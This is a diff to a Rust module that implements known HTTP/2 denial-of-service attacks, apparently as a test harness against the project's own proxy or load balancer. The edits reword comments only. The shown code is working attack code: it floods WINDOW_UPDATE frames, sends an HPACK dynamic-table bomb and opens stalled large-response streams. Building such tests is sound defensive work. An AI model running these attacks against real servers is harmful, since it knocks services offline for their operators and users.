@@ -1,16 +1,16 @@
-//! The ways to abuse HTTP/2 that are known, frame by frame.
+//! Known attacks on HTTP/2, frame by frame.
 
 use std::io::{self, Read, Write};
 use std::net::{SocketAddr, TcpStream};
 use std::sync::atomic::{AtomicBool, Ordering::Relaxed};
 use std::time::Duration;
 
-/// One of them.
+/// Attack on HTTP/2.
 pub(super) struct Attack {
     pub(super) name: &'static str,
-    /// Sent after the preface and empty settings.
+    /// Bytes sent once after the preface and empty settings.
     begin: fn() -> Vec<u8>,
-    /// Sent again and again; the argument counts from 0. Empty: it only waits.
+    /// Bytes sent repeatedly; the argument counts from 0. An empty value only waits.
     again: fn(u32) -> Vec<u8>,
 }
 
@@ -40,17 +40,17 @@ const CONTINUATION: u8 = 9;
 const END_STREAM: u8 = 1;
 const END_HEADERS: u8 = 4;
 
-/// `GET /64` of `test`, as HPACK has it without a table.
+/// HPACK block of `GET /64` for `test`, without a dynamic table.
 const GET: &[u8] = b"\x82\x86\x44\x03/64\x41\x04test";
-/// `POST /64` of `test`.
+/// HPACK block of `POST /64` for `test`.
 const POST: &[u8] = b"\x83\x86\x44\x03/64\x41\x04test";
-/// `GET /1048576` of `test`.
+/// HPACK block of `GET /1048576` for `test`.
 const GET_LARGE: &[u8] = b"\x82\x86\x44\x08/1048576\x41\x04test";
-/// Streams of the attacks on windows.
+/// Streams of the attacks on flow-control windows.
 const STREAMS: u32 = 100;
 
 impl Attack {
-    /// Does it on one connection until the balancer has enough or `stop` says so.
+    /// Runs the attack on one connection until the proxy closes it or `stop` is set.
     pub(super) fn once(&self, target: SocketAddr, stop: &AtomicBool) -> io::Result<()> {
         let mut socket = TcpStream::connect(target)?;
         socket.set_write_timeout(Some(Duration::from_millis(200)))?;
@@ -58,16 +58,16 @@ impl Attack {
         socket.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")?;
         socket.write_all(&frame(SETTINGS, 0, 0, b""))?;
         socket.write_all(&(self.begin)())?;
-        let mut heard = vec![0; 64 * 1024];
+        let mut stats = vec![0; 64 * 1024];
         for n in 0..u32::MAX / 4 {
             if stop.load(Relaxed) {
                 break;
             }
             let bytes = (self.again)(n);
             socket.write_all(&bytes)?;
-            // An abuser that read nothing would only be held up by the kernel.
+            // An attacker that reads nothing would only be slowed down by the kernel.
             if bytes.is_empty() || n % 64 == 0 {
-                match socket.read(&mut heard) {
+                match socket.read(&mut stats) {
                     Ok(0) => break,
                     Err(e) if !matches!(e.kind(), io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut) => {
                         break;
@@ -80,7 +80,7 @@ impl Attack {
     }
 }
 
-/// A frame as it stands on the wire (RFC 9113 section 4.1).
+/// Encodes a frame (RFC 9113 section 4.1).
 fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
     let len = (payload.len() as u32).to_be_bytes();
     let mut frame = vec![len[1], len[2], len[3], kind, flags];
@@ -147,7 +147,7 @@ fn window_update(_n: u32) -> Vec<u8> {
     frame(WINDOW_UPDATE, 0, 0, b"\x00\x00\x00\x01").repeat(32)
 }
 
-/// One long field into the table, and then a reference to it, thousands of times.
+/// Sends one long field for the dynamic table, then thousands of references to it.
 fn bomb(n: u32) -> Vec<u8> {
     let mut block = GET.to_vec();
     block.extend_from_slice(b"\x40\x01x\x7f\xe1\x1e");
@@ -156,7 +156,7 @@ fn bomb(n: u32) -> Vec<u8> {
     frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * n, &block)
 }
 
-/// Large answers asked for on many streams, none of which may be sent.
+/// Requests large responses on many streams and grants no window for them.
 fn stalled() -> Vec<u8> {
     let mut bytes = frame(SETTINGS, 0, 0, b"\x00\x04\x00\x00\x00\x00");
     for n in 0..STREAMS {
